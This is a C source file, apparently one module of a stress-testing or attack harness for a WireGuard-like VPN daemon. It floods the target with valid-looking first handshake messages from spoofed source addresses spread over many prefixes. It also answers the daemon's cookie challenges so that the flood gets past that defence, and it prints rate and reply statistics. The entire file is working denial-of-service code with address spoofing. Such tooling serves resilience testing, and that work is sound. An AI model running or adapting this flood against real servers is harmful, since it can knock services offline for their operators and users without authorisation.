/* SPDX-License-Identifier: BSD-3-Clause */
/* First handshake messages with a right mac1 from many addresses, each with another key as an honest one has. Where they answer, what asks for
 * a cookie is asked again with one: then the daemon knows that the address is real. */
#include "attack.h"

#include "crypto/cookie.h"
#include "wire/hsmsg.h"
#include "wire/link.h"

#include <arpa/inet.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define ENVELOPE 272
#define FRAME    (LINK_HEADER_BYTES + ENVELOPE)
#define SPOOFED  (1u << 20) /* addresses that are used in turn where none answers */

struct source {
	uint8_t mac1[COOKIE_MAC_BYTES], cookie[COOKIE_BYTES];
	bool has_cookie;
};

struct flood {
	struct attack *a;
	struct source *source; /* of those that answer */
	struct batch batch;
	uint8_t frame[ATTACK_POINTS][FRAME];
	uint64_t next;
	uint64_t with_cookie, cookies, seconds, refused, other, bytes_in;
};

static void frames(struct flood *f)
{
	static const struct hs_payload clear = {
	        .tx_lanes = 1, .caps = HS_CAP_CHACHA | HS_CAP_TRANSIT, .epoch = 1, .mtu = 1280};
	struct link_header h = {.type = LINK_HS1, .length = ENVELOPE, .receiver = f->a->o.network};
	uint8_t msg[32 + HS_PAYLOAD_MAX];
	size_t len = hs_payload_write(&clear, msg + 32, HS_PAYLOAD_MAX);

	for (unsigned i = 0; i < ATTACK_POINTS; i++) {
		memcpy(msg, f->a->point[i], 32);
		link_header_put(f->frame[i], &h);
		if (!hs_envelope_write(msg, 32 + len, ENVELOPE, f->frame[i] + LINK_HEADER_BYTES,
		                       ENVELOPE))
			abort();
	}
}

/* Address k: spread over prefixes, 250 in each before the next is begun anew. */
static struct in_addr address_of(const struct flood *f, uint64_t k)
{
	unsigned p = f->a->o.prefixes, base = ntohl(f->a->o.from.sin_addr.s_addr);

	if (!f->source) /* a step that visits all of them, each time in another /24 */
		return (struct in_addr){htonl((base & 0xff000000) | 0x00100000 |
		                              (uint32_t)(k * 40503 % SPOOFED) | (k & 1) << 21)};
	return (struct in_addr){htonl(base + 256 * (uint32_t)(k % p) + (uint32_t)(k / p % 250))};
}

static bool source_of(const struct flood *f, struct in_addr a, uint64_t *k)
{
	unsigned off = ntohl(a.s_addr) - ntohl(f->a->o.from.sin_addr.s_addr);

	*k = (uint64_t)off % 256 * f->a->o.prefixes + off / 256;
	return f->source && off / 256 < f->a->o.prefixes && *k < f->a->o.count;
}

static void send_first(struct flood *f)
{
	uint64_t k = f->next++;
	uint8_t *p = batch_frame(&f->batch);
	struct source *s = f->source ? &f->source[k % f->a->o.count] : NULL;
	struct in_addr from = address_of(f, s ? k % f->a->o.count : k);

	memcpy(p, f->frame[k % ATTACK_POINTS], FRAME);
	be64_store(p + 8, (uint32_t)k | 1u << 31);
	cookie_mac1(&f->a->o.victim, p, FRAME - HS_MACS_BYTES, p + FRAME - HS_MACS_BYTES);
	if (s && s->has_cookie) {
		cookie_mac2(s->cookie, p, FRAME - COOKIE_MAC_BYTES, p + FRAME - COOKIE_MAC_BYTES);
		f->with_cookie++;
	} else if (s) {
		memcpy(s->mac1, p + FRAME - HS_MACS_BYTES, COOKIE_MAC_BYTES);
	}
	batch_add(&f->batch, FRAME, &f->a->o.to, &from);
}

static void answer(struct flood *f, const uint8_t *p, size_t len, struct in_addr at)
{
	struct link_header h;
	uint64_t k;

	f->bytes_in += len;
	if (!link_header_get(p, len, &h))
		return;
	f->seconds += h.type == LINK_HS2;
	f->refused += h.type == LINK_REFUSED;
	f->cookies += h.type == LINK_COOKIE;
	if (h.type == LINK_COOKIE && f->a->o.answer && source_of(f, at, &k) &&
	    h.length >= COOKIE_REPLY_BYTES &&
	    cookie_open(&f->a->o.victim, f->source[k].mac1, p + LINK_HEADER_BYTES,
	                f->source[k].cookie) == 0)
		f->source[k].has_cookie = true;
}

static void receive(struct flood *f)
{
	for (unsigned i = 0; i < 1024; i++) {
		uint8_t p[ATTACK_FRAME_MAX], control[CMSG_SPACE(sizeof(struct in_pktinfo))];
		struct iovec v = {.iov_base = p, .iov_len = sizeof(p)};
		struct msghdr m = {.msg_iov = &v,
		                   .msg_iovlen = 1,
		                   .msg_control = control,
		                   .msg_controllen = sizeof(control)};
		ssize_t len = recvmsg(f->batch.fd, &m, MSG_DONTWAIT);
		struct cmsghdr *c = len > 0 ? CMSG_FIRSTHDR(&m) : NULL;
		struct in_pktinfo info;

		if (len <= 0)
			return;
		if (!c || c->cmsg_type != IP_PKTINFO)
			continue;
		memcpy(&info, CMSG_DATA(c), sizeof(info));
		answer(f, p, (size_t)len, info.ipi_addr);
	}
}

static void report(struct flood *f, double t)
{
	printf("{\"t\":%.1f,\"sent\":%llu,\"with_cookie\":%llu,\"bytes_out\":%llu,\"bytes_in\":%"
	       "llu,\"cookies\":%llu,"
	       "\"seconds\":%llu,\"refused\":%llu,\"cpu_s\":%.2f}\n",
	       t - f->a->since, (unsigned long long)f->batch.sent,
	       (unsigned long long)f->with_cookie, (unsigned long long)f->batch.bytes,
	       (unsigned long long)f->bytes_in, (unsigned long long)f->cookies,
	       (unsigned long long)f->seconds, (unsigned long long)f->refused, attack_cpu());
	fflush(stdout);
}

void attack_first(struct attack *a)
{
	static struct flood f;
	struct sockaddr_in any = {.sin_family = AF_INET};
	double t = attack_now(), told = t;
	struct pace pace;

	f.a = a;
	f.batch.fd = attack_socket(&any, true);
	if (a->o.answer) {
		if (a->o.count == 0)
			a->o.count = 1;
		f.source = calloc(a->o.count, sizeof(*f.source));
		if (!f.source)
			abort();
	}
	frames(&f);
	pace_begin(&pace, a->o.rate, t);
	while (!attack_stop && t - a->since < a->o.seconds) {
		struct pollfd p = {.fd = -1};

		(void)poll(&p, 1, 1);
		receive(&f);
		t = attack_now();
		for (unsigned due = pace_due(&pace, t); due > 0; due--)
			send_first(&f);
		batch_flush(&f.batch);
		if (t - told >= 0.5) {
			report(&f, t);
			told = t;
		}
	}
	report(&f, t);
}
